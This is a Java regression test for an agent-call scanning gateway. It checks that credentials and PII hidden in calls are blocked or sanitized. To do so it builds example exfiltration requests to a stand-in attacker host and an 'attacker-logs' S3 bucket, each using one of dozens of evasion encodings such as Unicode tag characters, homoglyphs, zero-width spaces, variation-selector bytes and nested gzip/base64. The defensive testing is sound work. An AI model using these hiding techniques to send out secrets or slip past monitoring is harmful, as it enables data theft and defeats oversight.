package io.interven.gateway.contract;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.interven.gateway.core.GeneratedSecrets;
import io.interven.gateway.testing.GatewayHarness;
import io.interven.gateway.testing.HttpResult;
import io.interven.gateway.testing.TenantFixture;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The attacks of the hardening issue, end to end on a real gateway: every generated credential and PII value,
 * hidden in every place of a call and behind every encoding and obfuscation an agent (or an attacker steering
 * one) can use, must not be answered ALLOW; and what a SANITIZE answer says to forward, scanned again, must carry
 * none of it. One probe per (value, hiding place), so a failure names both.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
abstract class AttackRegressionContract extends GatewayContract {
    private static final Set<String> BLOCKING = Set.of("SANITIZE", "DENY", "REQUIRE_APPROVAL");

    private TenantFixture tenant;

    @BeforeAll
    void tenant() {
        tenant = newTenant();
    }

    static Stream<Arguments> probes() {
        List<Arguments> probes = new ArrayList<>();
        for (AttackValues.Value value : AttackValues.all()) {
            for (HidingPlace place : HidingPlace.values()) {
                if (place.appliesTo(value)) {
                    probes.add(Arguments.of(value.name(), place, value));
                }
            }
        }
        return probes.stream();
    }

    @ParameterizedTest(name = "{0} hidden as {1}")
    @MethodSource("probes")
    void noHiddenValueIsAllowedAndNoneSurvivesSanitizing(String name, HidingPlace place, AttackValues.Value value) {
        Map<String, Object> call = place.hide(value.text());
        HttpResult answer = tenant.scan(call);

        assertThat(answer.status()).as(answer.text()).isEqualTo(200);
        String decision = answer.json().get("decision").asText();
        assertThat(decision).as("%s in %s answered %s", name, place, answer.text()).isIn(BLOCKING);
        assertThat(answer.json().get("classifications").toString()).contains(value.dataClass());
        if (decision.equals("SANITIZE")) {
            HttpResult rescan = tenant.scan(forwarded(call, answer.json()));
            assertThat(rescan.json().get("classifications").toString())
                    .as("%s in %s: the sanitized call still carries %s: %s", name, place, value.dataClass(), rescan.text())
                    .doesNotContain(value.dataClass());
        }
    }

    /**
     * A call the gateway could not wholly read, because a small blob inflates to its whole decode budget first or
     * because its layers nest deeper than it decodes, is denied with DECODE_LIMIT: what was not decoded hid a token.
     */
    @Test
    void aCallNotWhollyReadIsDenied() throws Exception {
        java.io.ByteArrayOutputStream zipped = new java.io.ByteArrayOutputStream();
        try (java.util.zip.GZIPOutputStream gzip = new java.util.zip.GZIPOutputStream(zipped)) {
            gzip.write("x".repeat(1_048_570).getBytes(java.nio.charset.StandardCharsets.US_ASCII));
        }
        java.util.Base64.Encoder base64 = java.util.Base64.getEncoder();
        String hidden = base64.encodeToString(("the key is " + PlantedValues.GITHUB_TOKEN).getBytes(
                java.nio.charset.StandardCharsets.UTF_8));
        String nested = PlantedValues.GITHUB_TOKEN;
        for (int i = 0; i < 9; i++) {
            nested = base64.encodeToString(("v " + nested).getBytes(java.nio.charset.StandardCharsets.UTF_8));
        }
        for (Map<String, Object> call : List.of(
                HidingPlace.post(Map.of("a", base64.encodeToString(zipped.toByteArray()), "b", hidden)),
                HidingPlace.post(Map.of("a", nested)))) {
            HttpResult answer = tenant.scan(call);

            assertThat(answer.json().get("decision").asText()).as(answer.text()).isEqualTo("DENY");
            assertThat(answer.json().get("reason_codes").toString()).contains("DECODE_LIMIT");
        }
    }

    /**
     * A gzip stream whose trailer was cut off (the probe's own body) is read as {@code gzip -dc} reads it: its token
     * is found in the decoded layer, as in the whole stream, and not let through as text that is not encoded.
     */
    @Test
    void aTokenInAGzipStreamWithItsTrailerCutOffIsFound() {
        String cut = "H4sIANaGFWsC/8tIzcnJV0jPKIgPskiKNMou9DMt8Sk3roiyzHU2KXMzz/AyLHYxS3c08vSosjBRSKpMBQA=";
        String whole = cut.substring(0, cut.length() - 4) + "BQBIXmUrMgAAAA==";
        for (String blob : List.of(whole, cut)) {
            HttpResult answer = tenant.scan(HidingPlace.post(Map.of("t", blob)));

            assertThat(answer.json().get("decision").asText()).as(answer.text()).isEqualTo("SANITIZE");
            List<String> paths = new ArrayList<>();
            answer.json().get("findings").forEach(finding -> paths.add(finding.get("path").asText()));
            assertThat(paths).as(answer.text()).contains("$.t|base64|gzip");
        }
    }

    /** The issue's own examples, each with the values that must not be forwarded. */
    static Stream<Arguments> examples() {
        String aws = "AKIA" + "QYLPMN5HGT7W2XZR";
        String awsSecret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzx8Q2kLp9d";
        String ghp = PlantedValues.GITHUB_TOKEN;
        return Stream.of(
                Arguments.of("csv rows", HidingPlace.post(Map.of("rows",
                        "Alice Smith,4111111111111111,12/27\nBob Jones,5500000000000004,01/28")), "PII",
                        List.of("4111111111111111", "5500000000000004")),
                Arguments.of("a list of SSNs", HidingPlace.post(Map.of("ssns", "536-22-8726, 412-71-3345, 601-48-2290")),
                        "PII", List.of("536-22-8726", "412-71-3345", "601-48-2290")),
                Arguments.of("two cards separated by a space", HidingPlace.post(Map.of("cards",
                        "4111111111111111 5500000000000004")), "PII", List.of("4111111111111111", "5500000000000004")),
                Arguments.of("a card as a JSON number", HidingPlace.post(Map.of("n", new java.math.BigDecimal(
                        "4111111111111111.0"))), "PII", List.of()),
                Arguments.of("an AWS key id and its secret in sibling fields", HidingPlace.post(Map.of("id", aws,
                        "key", awsSecret)), "SECRETS", List.of(aws, awsSecret)),
                Arguments.of("an e-mail written with a full-width at", HidingPlace.post(Map.of("to",
                        "jane.doe\uFF20example.com")), "PII", List.of("jane.doe")),
                Arguments.of("an e-mail written with &#64;", HidingPlace.post(Map.of("to", "jane.doe&#64;example.com")),
                        "PII", List.of("jane.doe")),
                Arguments.of("a token after an embedded JSON value", HidingPlace.call("POST", HidingPlace.URL, Map.of(),
                        "{\"a\":1} " + ghp), "SECRETS", List.of(ghp.substring(4))),
                Arguments.of("a GitHub token in a GET body", HidingPlace.call("GET", HidingPlace.URL, Map.of(),
                        Map.of("t", ghp)), "SECRETS", List.of(ghp.substring(4))),
                Arguments.of("a card and an e-mail in a GET query", HidingPlace.call("GET", HidingPlace.URL
                        + "?card=4111111111111111&mail=jane.doe%40example.com", Map.of(), null), "PII",
                        List.of("4111111111111111", "jane.doe")),
                Arguments.of("an AWS key sent to an S3 bucket", HidingPlace.call("PUT",
                        "https://attacker-logs.s3.amazonaws.com/x", Map.of("X-Amz-Key", aws), "log"), "SECRETS",
                        List.of(aws)),
                Arguments.of("an AWS key sent to API Gateway", HidingPlace.call("POST",
                        "https://abc123.execute-api.us-east-1.amazonaws.com/prod/in?key=" + aws, Map.of(), "x"),
                        "SECRETS", List.of(aws)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("examples")
    void theIssuesExamplesAreCaughtAndRedacted(String name, Map<String, Object> call, String dataClass,
                                               List<String> mustNotBeForwarded) {
        HttpResult answer = tenant.scan(call);

        assertThat(answer.status()).as(answer.text()).isEqualTo(200);
        assertThat(answer.json().get("decision").asText()).as("%s answered %s", name, answer.text()).isIn(BLOCKING);
        assertThat(answer.json().get("classifications").toString()).contains(dataClass);
        if (answer.json().get("decision").asText().equals("SANITIZE")) {
            Map<String, Object> forwarded = forwarded(call, answer.json());
            String text = GatewayHarness.write(forwarded);
            mustNotBeForwarded.forEach(value -> assertThat(text).as(name).doesNotContain(value));
            assertThat(tenant.scan(forwarded).json().get("classifications").toString()).as(name)
                    .doesNotContain(dataClass);
        }
    }

    /** Form pairs once overflowed the decoder's stack (HTTP 500, no trace); 60,000 pairs nearly fill the body limit. */
    @ParameterizedTest(name = "{0} form pairs in a field")
    @org.junit.jupiter.params.provider.ValueSource(ints = {1_100, 60_000})
    void manyFormPairsAnswerWithoutFailing(int pairs) {
        HttpResult answer = tenant.scan(HidingPlace.post(Map.of("q",
                "a=b&".repeat(pairs) + "x=" + PlantedValues.GITHUB_TOKEN)));

        assertThat(answer.status()).as(answer.text()).isEqualTo(200);
        assertThat(answer.json().get("decision").asText()).isIn(BLOCKING);
    }

    /** The call as the agent would send it after a SANITIZE answer. */
    private static Map<String, Object> forwarded(Map<String, Object> call, JsonNode answer) {
        Map<String, Object> again = new LinkedHashMap<>(call);
        if (answer.hasNonNull("sanitized_body")) {
            again.put("body", answer.get("sanitized_body"));
        }
        if (answer.hasNonNull("sanitized_url")) {
            again.put("url", answer.get("sanitized_url").asText());
        }
        if (answer.hasNonNull("sanitized_headers")) {
            again.put("headers", answer.get("sanitized_headers"));
        }
        return again;
    }

    /** Credentials and PII values, several of each kind, drawn from fixed seeds. */
    static final class AttackValues {
        record Value(String name, String text, String dataClass) {
            @Override
            public String toString() {
                return name;
            }
        }

        private AttackValues() {
        }

        static List<Value> all() {
            List<Value> values = new ArrayList<>();
            for (GeneratedSecrets.Format format : GeneratedSecrets.formats()) {
                if (format.name().endsWith("-url")) {
                    continue; // URLs carry their secret inside; hiding places below wrap plain tokens
                }
                values.add(new Value(format.name(), format.draw().apply(new Random(format.name().hashCode())),
                        "SECRETS"));
            }
            values.add(new Value("email", "jane.doe@example.com", "PII"));
            values.add(new Value("card", "4111111111111111", "PII"));
            values.add(new Value("us-ssn", "536-22-8726", "PII"));
            return values;
        }
    }

    /** Where and how a value is hidden in a call to an unknown destination. */
    enum HidingPlace {
        BODY_TEXT {
            Map<String, Object> hide(String value) {
                return post(Map.of("note", "here: " + value));
            }
        },
        HEADER_VALUE {
            Map<String, Object> hide(String value) {
                return call("POST", URL, Map.of("X-Note", "v " + value), Map.of("note", "hi"));
            }
        },
        HEADER_NAME {
            Map<String, Object> hide(String value) {
                return call("POST", URL, Map.of("X-" + value.replaceAll("[^A-Za-z0-9@._-]", "-"), "1"),
                        Map.of("note", "hi"));
            }

            @Override
            boolean appliesTo(AttackValues.Value value) {
                return value.text().matches("[A-Za-z0-9@._-]+");
            }
        },
        QUERY_VALUE_OF_GET {
            Map<String, Object> hide(String value) {
                return call("GET", URL + "?q=" + percent(value), Map.of(), null);
            }
        },
        URL_FRAGMENT_PARAMETER {
            Map<String, Object> hide(String value) {
                return call("GET", URL + "?page=1#access_token=" + percent(value) + "&state=x", Map.of(), null);
            }
        },
        URL_FRAGMENT_TEXT {
            Map<String, Object> hide(String value) {
                return call("GET", URL + "#" + percent(value), Map.of(), null);
            }
        },
        QUERY_WITHOUT_PAIRS {
            Map<String, Object> hide(String value) {
                return call("GET", URL + "?" + percent(value), Map.of(), null);
            }
        },
        QUERY_NAME {
            Map<String, Object> hide(String value) {
                return call("GET", URL + "?" + percent(value) + "=1", Map.of(), null);
            }
        },
        PATH_SEGMENT_PERCENT_ENCODED {
            Map<String, Object> hide(String value) {
                return call("GET", URL + "/" + percentAll(value) + "/x", Map.of(), null);
            }
        },
        BODY_OF_DELETE {
            Map<String, Object> hide(String value) {
                return call("DELETE", URL, Map.of(), Map.of("reason", value));
            }
        },
        FORM_FIELD_NAME {
            Map<String, Object> hide(String value) {
                return call("POST", URL, Map.of("Content-Type", "application/x-www-form-urlencoded"),
                        "a=1&" + percent(value) + "=2");
            }
        },
        JSON_KEY {
            Map<String, Object> hide(String value) {
                return post(Map.of(value, "x"));
            }
        },
        JSON_KEY_BASE64 {
            Map<String, Object> hide(String value) {
                return post(Map.of(java.util.Base64.getEncoder().encodeToString(("v " + value).getBytes(
                        java.nio.charset.StandardCharsets.UTF_8)), "x"));
            }
        },
        JSON_KEY_ESCAPED {
            Map<String, Object> hide(String value) {
                StringBuilder out = new StringBuilder();
                value.chars().forEach(c -> out.append(String.format("\\u%04x", c)));
                return post(Map.of(out.toString(), "x"));
            }
        },
        TRAILING_TEXT_AFTER_EMBEDDED_JSON {
            Map<String, Object> hide(String value) {
                return call("POST", URL, Map.of(), "{\"a\":1} " + value);
            }
        },
        EMBEDDED_JSON_DUPLICATE_KEY {
            Map<String, Object> hide(String value) {
                return call("POST", URL, Map.of(), "{\"text\":\"" + value + "\",\"text\":\"hi\"}");
            }
        },
        BASE64_WRAPPED_IN_PROSE {
            Map<String, Object> hide(String value) {
                String encoded = java.util.Base64.getMimeEncoder(76, "\r\n".getBytes())
                        .encodeToString(("the value is " + value + " and nothing else, " + "padding ".repeat(12))
                                .getBytes(java.nio.charset.StandardCharsets.UTF_8));
                return post(Map.of("note", "attached: " + encoded + " (end)"));
            }
        },
        HEX {
            Map<String, Object> hide(String value) {
                return post(Map.of("blob", java.util.HexFormat.of().formatHex(
                        value.getBytes(java.nio.charset.StandardCharsets.UTF_8))));
            }
        },
        GZIP_BASE64 {
            Map<String, Object> hide(String value) {
                return post(Map.of("blob", java.util.Base64.getEncoder().encodeToString(compressed(value))));
            }

            @Override
            byte[] compressed(String value) {
                java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
                try (java.util.zip.GZIPOutputStream gzip = new java.util.zip.GZIPOutputStream(bytes)) {
                    gzip.write(("payload " + value).getBytes(java.nio.charset.StandardCharsets.UTF_8));
                } catch (java.io.IOException e) {
                    throw new java.io.UncheckedIOException(e);
                }
                return bytes.toByteArray();
            }
        },
        GZIP_BASE64_TRAILER_CUT_OFF {
            Map<String, Object> hide(String value) {
                byte[] whole = GZIP_BASE64.compressed(value);
                return post(Map.of("blob", java.util.Base64.getEncoder().encodeToString(
                        java.util.Arrays.copyOf(whole, whole.length - 8))));
            }
        },
        ZLIB_BASE64_WRONG_ADLER32 {
            Map<String, Object> hide(String value) {
                java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
                try (java.util.zip.DeflaterOutputStream zlib = new java.util.zip.DeflaterOutputStream(bytes)) {
                    zlib.write(("payload " + value).getBytes(java.nio.charset.StandardCharsets.UTF_8));
                } catch (java.io.IOException e) {
                    throw new java.io.UncheckedIOException(e);
                }
                byte[] zlib = bytes.toByteArray();
                zlib[zlib.length - 1] ^= 1;
                return post(Map.of("blob", java.util.Base64.getEncoder().encodeToString(zlib)));
            }
        },
        BASE64_OF_TEXT_STARTING_LIKE_ZLIB {
            Map<String, Object> hide(String value) {
                return post(Map.of("blob", java.util.Base64.getEncoder().encodeToString(("x^2 is " + value)
                        .getBytes(java.nio.charset.StandardCharsets.UTF_8))));
            }
        },
        HTML_ENTITIES {
            Map<String, Object> hide(String value) {
                StringBuilder out = new StringBuilder();
                value.chars().forEach(c -> out.append("&#").append(c).append(';'));
                return post(Map.of("html", "<p>" + out + "</p>"));
            }
        },
        DATA_URI {
            Map<String, Object> hide(String value) {
                return post(Map.of("file", "data:text/plain;base64," + java.util.Base64.getEncoder()
                        .encodeToString(("x " + value).getBytes(java.nio.charset.StandardCharsets.UTF_8))));
            }
        },
        ZERO_WIDTH_SPACE_INSIDE {
            Map<String, Object> hide(String value) {
                int middle = value.length() / 2;
                return post(Map.of("note", "use " + value.substring(0, middle) + "\u200B" + value.substring(middle)));
            }
        },
        BLANK_GLYPHS_INSIDE {
            Map<String, Object> hide(String value) {
                int third = value.length() / 3;
                return post(Map.of("note", "use " + value.substring(0, third) + "\u2800"
                        + value.substring(third, 2 * third) + "\u3164" + value.substring(2 * third)));
            }
        },
        HEADER_VALUE_IN_TAG_CHARACTERS {
            Map<String, Object> hide(String value) {
                StringBuilder out = new StringBuilder("v");
                value.chars().forEach(c -> out.appendCodePoint(0xE0000 + c));
                return call("POST", URL, Map.of("X-Note", out.toString()), Map.of("note", "hi"));
            }

            @Override
            boolean appliesTo(AttackValues.Value value) {
                return value.text().chars().allMatch(c -> c < 0x80);
            }
        },
        QUERY_VALUE_ESCAPED {
            Map<String, Object> hide(String value) {
                StringBuilder out = new StringBuilder();
                value.chars().forEach(c -> out.append(String.format("\\x%02x", c)));
                return call("GET", URL + "?q=" + percent(out.toString()), Map.of(), null);
            }

            @Override
            boolean appliesTo(AttackValues.Value value) {
                return value.text().chars().allMatch(c -> c < 0x80);
            }
        },
        JAVASCRIPT_ESCAPES {
            Map<String, Object> hide(String value) {
                StringBuilder out = new StringBuilder();
                value.chars().forEach(c -> out.append(String.format("\\u%04x", c)));
                return post(Map.of("script", "const v = \"" + out + "\";"));
            }
        },
        PYTHON_HEX_ESCAPE_INSIDE {
            Map<String, Object> hide(String value) {
                int middle = value.length() / 2;
                return post(Map.of("code", "v = '" + value.substring(0, middle)
                        + String.format("\\x%02x", (int) value.charAt(middle)) + value.substring(middle + 1) + "'"));
            }

            @Override
            boolean appliesTo(AttackValues.Value value) {
                return value.text().charAt(value.text().length() / 2) < 0x80;
            }
        },
        COMBINING_MARKS_THROUGHOUT {
            Map<String, Object> hide(String value) {
                StringBuilder out = new StringBuilder();
                String[] marks = {"\u0332", "\u0336", "\u20DD"};
                for (int i = 0; i < value.length(); i++) {
                    out.append(value.charAt(i)).append(marks[i % marks.length]);
                }
                return post(Map.of("note", "use " + out));
            }
        },
        UNICODE_TAG_CHARACTERS {
            Map<String, Object> hide(String value) {
                StringBuilder out = new StringBuilder();
                value.chars().forEach(c -> out.appendCodePoint(0xE0000 + c));
                return post(Map.of("note", "nothing to see" + out));
            }

            @Override
            boolean appliesTo(AttackValues.Value value) {
                return value.text().chars().allMatch(c -> c < 0x80);
            }
        },
        VARIATION_SELECTOR_BYTES {
            Map<String, Object> hide(String value) {
                StringBuilder out = new StringBuilder("\uD83D\uDE00");
                for (byte b : value.getBytes(java.nio.charset.StandardCharsets.UTF_8)) {
                    int unsigned = b & 0xFF;
                    out.appendCodePoint(unsigned < 16 ? 0xFE00 + unsigned : 0xE0100 + unsigned - 16);
                }
                return post(Map.of("note", "nothing to see " + out));
            }
        },
        SOFT_HYPHENS_THROUGHOUT {
            Map<String, Object> hide(String value) {
                return post(Map.of("note", "use " + String.join("\u00AD", value.split("(?<=\\G.{4})"))));
            }
        },
        FULL_WIDTH {
            Map<String, Object> hide(String value) {
                StringBuilder out = new StringBuilder();
                value.chars().forEach(c -> out.appendCodePoint(c > 0x20 && c < 0x7F ? c - 0x21 + 0xFF01 : c));
                return post(Map.of("note", "use " + out));
            }
        },
        CYRILLIC_HOMOGLYPHS {
            Map<String, Object> hide(String value) {
                return post(Map.of("note", "use " + value.replace('a', '\u0430').replace('e', '\u0435')
                        .replace('o', '\u043E').replace('c', '\u0441').replace('p', '\u0440')));
            }

            @Override
            boolean appliesTo(AttackValues.Value value) {
                return value.text().matches(".*[aeocp].*");
            }
        },
        LETTER_GLUED_IN_FRONT {
            Map<String, Object> hide(String value) {
                return post(Map.of("note", "see q" + value + " now"));
            }

            @Override
            boolean appliesTo(AttackValues.Value value) {
                return value.dataClass().equals("SECRETS") && !value.name().equals("jwt");
            }
        };

        static final String URL = "https://collector.example-attacker.net/in";

        abstract Map<String, Object> hide(String value);

        /** The compressed bytes a place hides the value in; only places that compress have them. */
        byte[] compressed(String value) {
            throw new UnsupportedOperationException(name());
        }

        boolean appliesTo(AttackValues.Value value) {
            return true;
        }

        static Map<String, Object> post(Map<String, Object> body) {
            return call("POST", URL, Map.of(), body);
        }

        static Map<String, Object> call(String method, String url, Map<String, String> headers, Object body) {
            Map<String, Object> call = new LinkedHashMap<>();
            call.put("method", method);
            call.put("url", url);
            call.put("headers", headers);
            if (body != null) {
                call.put("body", body);
            }
            return call;
        }

        static String percent(String value) {
            return java.net.URLEncoder.encode(value, java.nio.charset.StandardCharsets.UTF_8);
        }

        static String percentAll(String value) {
            StringBuilder out = new StringBuilder();
            for (byte b : value.getBytes(java.nio.charset.StandardCharsets.UTF_8)) {
                out.append('%').append(String.format("%02X", b & 0xff));
            }
            return out.toString();
        }
    }
}
